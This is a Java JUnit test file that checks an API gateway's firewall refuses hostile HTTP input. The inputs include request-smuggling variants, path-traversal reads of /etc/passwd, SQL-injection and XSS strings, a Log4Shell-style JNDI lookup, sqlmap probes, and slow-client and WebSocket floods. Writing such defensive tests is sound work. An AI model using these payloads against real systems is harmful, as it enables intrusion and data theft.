package io.moneyprinter.gateway;

import static io.moneyprinter.gateway.RunningGateway.problem;
import static io.moneyprinter.testsupport.Answers.answer;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.micrometer.core.instrument.Counter;
import io.moneyprinter.testsupport.TestNode;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.ext.web.client.HttpResponse;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Requests of attackers. Smuggling as in RFC 9112 §11.2 and the "HTTP desync" write-ups on it. */
class FirewallTest {
  private static final TestNode NODE = TestNode.plain();
  private static RunningGateway gateway;

  @BeforeAll
  static void start() {
    NODE.open(null);
    gateway =
        RunningGateway.start(
            NODE.node(),
            TestConfig.with(
                "firewall.head-time", "700ms",
                "firewall.body-rate", "1000",
                "firewall.body-window", "700ms"));
  }

  @AfterAll
  static void stop() {
    NODE.close();
  }

  private static String request(String head, String body) {
    return head.replace("\n", "\r\n") + "\r\n" + body;
  }

  static Stream<Arguments> smuggled() {
    String hidden = "GET /v1/voices HTTP/1.1\r\nHost: localhost\r\n\r\n";
    String json = "POST /v1/videos HTTP/1.1\nHost: localhost\nContent-Type: application/json\n";
    return Stream.of(
        Arguments.of(
            "CL.TE: a length and chunks",
            request(
                json + "Content-Length: 6\nTransfer-Encoding: chunked\n", "0\r\n\r\n" + hidden)),
        Arguments.of(
            "TE.CL: chunks and a length",
            request(
                json + "Transfer-Encoding: chunked\nContent-Length: 4\n",
                "2\r\n{}\r\n0\r\n\r\n" + hidden)),
        Arguments.of(
            "TE.TE: chunked twice, once in disguise",
            request(
                json + "Transfer-Encoding: chunked\nTransfer-Encoding: x\n", "0\r\n\r\n" + hidden)),
        Arguments.of(
            "a coding that only looks like chunked",
            request(json + "Transfer-Encoding: xchunked\n", "0\r\n\r\n" + hidden)),
        Arguments.of(
            "a blank before the colon",
            request(json + "Transfer-Encoding : chunked\n", "0\r\n\r\n" + hidden)),
        Arguments.of(
            "a folded header",
            request(json + "X-A: b\n Transfer-Encoding: chunked\nContent-Length: 0\n", "")
                .replace("X-A: b\r\n ", "Transfer-Encoding:\r\n chunked\r\nX-A: ")),
        Arguments.of(
            "two lengths that differ",
            request(json + "Content-Length: 2\nContent-Length: 50\n", "{}" + hidden)),
        Arguments.of(
            "two lengths in one header", request(json + "Content-Length: 2, 50\n", "{}" + hidden)),
        Arguments.of("a length with a sign", request(json + "Content-Length: +2\n", "{}" + hidden)),
        Arguments.of("a negative length", request(json + "Content-Length: -2\n", "{}" + hidden)),
        Arguments.of(
            "lines that end in a bare LF",
            "GET /v1/voices HTTP/1.1\nHost: localhost\nX-A: b\n\n" + hidden),
        Arguments.of(
            "a bare CR in a header",
            request("GET /v1/voices HTTP/1.1\nHost: localhost\nX-A: b\rX-C: d\n", "")),
        Arguments.of(
            "a NUL in a header",
            request("GET /v1/voices HTTP/1.1\nHost: localhost\nX-A: b\0c\n", "")),
        Arguments.of(
            "chunks in HTTP/1.0",
            request(
                json.replace("1.1", "1.0") + "Transfer-Encoding: chunked\n", "0\r\n\r\n" + hidden)),
        Arguments.of(
            "two hosts",
            request("GET /v1/voices HTTP/1.1\nHost: localhost\nHost: evil.example\n", "")),
        Arguments.of(
            "a chunk size that is none",
            request(json + "Transfer-Encoding: chunked\n", "zz\r\n{}\r\n0\r\n\r\n" + hidden)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("smuggled")
  void aSmuggledRequestIsRefusedAndItsConnectionClosed(String name, String bytes)
      throws IOException {
    String answered = RawClient.exchange(gateway.port(), bytes);

    assertThat(answered).doesNotContain("200 OK").doesNotContain("202 Accepted");
    if (!answered.isEmpty()) {
      assertThat(answered).startsWith("HTTP/1.").contains(" 400 ");
      assertThat(answered.split("HTTP/1\\.[01] ")).as("one answer").hasSize(2);
    }
  }

  /** Refused by the HTTP codec, by the router before its first route, and by the firewall. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /v1/voices HTTP/1.1\nHost: localhost\nContent-Length: -2\n",
        "GET /v1/voices HTTP/1.1\nConnection: close\n",
        "CONNECT evil.example:443 HTTP/1.1\nHost: evil.example:443\nConnection: close\n",
        "GET http://evil.example/ HTTP/1.1\nHost: localhost\nConnection: close\n"
      })
  void whatNeverReachesARouteIsRefusedLikeAllElse(String head) throws IOException {
    String answered = RawClient.exchange(gateway.port(), request(head, ""));

    assertThat(answered)
        .startsWith("HTTP/1.1 4")
        .containsIgnoringCase("traceparent: 00-")
        .containsIgnoringCase("x-content-type-options: nosniff")
        .contains("application/problem+json")
        .containsPattern("\"correlationId\":\"[0-9a-f-]{36}\"")
        .containsPattern("\"traceId\":\"[0-9a-f]{32}\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"script\":\"overlong \u00C0\u00AF\"}",
        "{\"script\":\"half a pair \u00ED\u00A0\u0080\"}",
        "{\"script\":\"Latin-1 \u00E9\"}",
        "{\0\"\0s\0\"\0:\0\0001\0}\0"
      })
  void aBodyThatIsNotUtf8IsRefused(String bytes) {
    HttpResponse<Buffer> refused =
        answer(
            gateway
                .json(HttpMethod.POST, "/v1/videos")
                .sendBuffer(Buffer.buffer(bytes.getBytes(StandardCharsets.ISO_8859_1))));

    assertThat(refused.statusCode()).isEqualTo(400);
    assertThat(problem(refused).getString("detail")).contains("body is no");
  }

  @Test
  void aByteOrderMarkIsPassedOver() {
    assertThat(gateway.post("/v1/videos", "\uFEFF" + RunningGateway.SCRIPT).statusCode())
        .isEqualTo(202);
  }

  @ParameterizedTest
  @CsvSource({
    "/v1/videos/%2e%2e/%2e%2e/etc/passwd, 400",
    "/v1/../v1/voices, 400",
    "/v1/videos/..;/admin, 400",
    "/v1/videos/a%2fb, 400",
    "/v1/videos/a%5cb, 400",
    "/v1/videos/a%00, 400",
    "/v1/videos/%252e%252e, 400",
    "/v1/videos/%c0%ae%c0%ae, 400",
    "/v1/videos/%zz, 400",
    "/v1/videos?after=%, 400",
    "/v1/videos?after=a%00b, 400",
    "/.env, 403",
    "/.git/config, 403",
    "/wp-login.php, 403",
    "/v1/materials?q=1%27%20OR%20%271%27%3D%271, 403",
    "/v1/materials?q=x%20UNION%20ALL%20SELECT%20password%20FROM%20users, 403",
    "/v1/materials?q=%3Cscript%3Ealert(1)%3C/script%3E, 403",
    "/v1/materials?q=${jndi:ldap://evil/x}, 403",
    "/v1/materials?q=../../../etc/passwd, 403"
  })
  void anAttackInTheTargetIsRefused(String target, int status) throws IOException {
    String answered =
        RawClient.exchange(
            gateway.port(),
            request("GET " + target + " HTTP/1.1\nHost: localhost\nConnection: close\n", ""));

    assertThat(answered).startsWith("HTTP/1.1 " + status + " ");
    assertThat(answered).contains("application/problem+json").doesNotContain("sql");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/v1/voices?language=de",
        "/v1/videos?state=completed&limit=5",
        "/v1/schedules/preview?cron=0+9+*+*+MON-FRI&zone=Europe%2FBerlin",
        "/v1/materials?q=rock+%26+roll%3B+select+a+union+card",
        "/v1/materials?q=100%25+O%27Brien",
        "/.well-known/jwks.json"
      })
  void whatHonestPeopleAskIsNotRefused(String target) {
    assertThat(gateway.get(target).statusCode()).isNotIn(400, 403);
  }

  @Test
  void aScriptMaySpeakOfAttacks() {
    assertThat(
            gateway
                .post(
                    "/v1/videos",
                    "{\"script\":\"Never write ' OR '1'='1, <script> or ../../etc/passwd.\"}")
                .statusCode())
        .isEqualTo(202);
  }

  @Test
  void aScannerIsRefusedByItsName() {
    assertThat(gateway.get("/v1/voices", "User-Agent", "sqlmap/1.7").statusCode()).isEqualTo(403);
  }

  @ParameterizedTest
  @ValueSource(strings = {"TRACE", "CONNECT", "PROPFIND", "HACK"})
  void otherMethodsAreRefused(String method) {
    HttpResponse<Buffer> refused =
        answer(gateway.request(HttpMethod.valueOf(method), "/v1/voices").send());

    assertThat(refused.statusCode()).isEqualTo(405);
  }

  @Test
  void tooManyOrTooLongHeadersAndTargetsAreRefused() {
    var many = gateway.request(HttpMethod.GET, "/v1/voices");
    for (int i = 0; i < 80; i++) {
      many.putHeader("X-" + i, "a");
    }

    assertThat(answer(many.send()).statusCode()).isEqualTo(431);
    assertThat(gateway.get("/v1/voices", "X-Long", "a".repeat(9_000)).statusCode()).isEqualTo(431);
    assertThat(gateway.get("/v1/voices", "X-Long", "a".repeat(20_000)).statusCode()).isEqualTo(431);
    assertThat(gateway.get("/v1/voices?x=" + "a".repeat(4_050)).statusCode()).isEqualTo(414);
    HttpResponse<Buffer> endless = gateway.get("/v1/voices?x=" + "a".repeat(9_000));
    assertThat(endless.statusCode()).isEqualTo(414);
    assertThat(problem(endless).getString("type")).endsWith("uri-too-long");
  }

  @Test
  void aCompressedBodyIsRefusedBeforeItIsUnpacked() {
    assertThat(
            answer(
                    gateway
                        .json(HttpMethod.POST, "/v1/videos")
                        .putHeader("Content-Encoding", "gzip")
                        .sendBuffer(Buffer.buffer("bomb")))
                .statusCode())
        .isEqualTo(415);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "GET /v1/voices HTTP/1.1\r\nHost: local",
        "GET /v1/voices HTTP/1.1\r\nHost: localhost\r\n\r\nGET /v1/voi",
        "POST /v1/videos HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            + "Content-Length: 5000\r\n\r\n{\"script\""
      })
  void aClientThatStopsSendingIsCutOff(String beginning) throws IOException {
    double before = gateway.node.meters().get("gateway.firewall.slow").counter().count();
    try (RawClient client = new RawClient(gateway.port())) {
      client.send(beginning);

      client.readToEnd(); // fails after eight seconds
    }
    assertThat(gateway.node.meters().get("gateway.firewall.slow").counter().count())
        .isGreaterThan(before);
  }

  /** Each ping has to be answered; a key of zeros masks nothing (RFC 6455 §5.3). */
  @Test
  void aSocketThatPingsOnAndReadsNoPongIsCutOff() throws IOException {
    String ping = "\u0089\u00FD\0\0\0\0" + "p".repeat(125);
    Counter cut = gateway.node.meters().get("gateway.firewall.unread").counter();
    try (RawClient client = new RawClient(gateway.port())) {
      client.send(
          request(
              "GET /v1/events HTTP/1.1\nHost: localhost\nUpgrade: websocket\nConnection: Upgrade\n"
                  + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Version: 13\n",
              ""));
      assertThat(client.readHead()).startsWith("HTTP/1.1 101 ");

      String many = ping.repeat(2_000);
      assertThatThrownBy(
              () -> {
                for (int i = 0; i < 400; i++) {
                  client.send(many);
                }
              })
          .isInstanceOf(IOException.class);
    }
    assertThat(cut.count()).isEqualTo(1);
  }

  @Test
  void reportOnlyLetsPassAndCounts() {
    TestNode other = TestNode.plain();
    other.open(null);
    try {
      RunningGateway reporting =
          RunningGateway.start(other.node(), TestConfig.with("firewall.mode", "report"));

      assertThat(reporting.get("/v1/voices", "User-Agent", "sqlmap/1.7").statusCode())
          .isEqualTo(200);
      assertThat(
              reporting
                  .node
                  .meters()
                  .get("gateway.firewall.findings")
                  .tags("rule", "scanner", "outcome", "reported")
                  .counter()
                  .count())
          .isEqualTo(1);
    } finally {
      other.close();
    }
  }
}
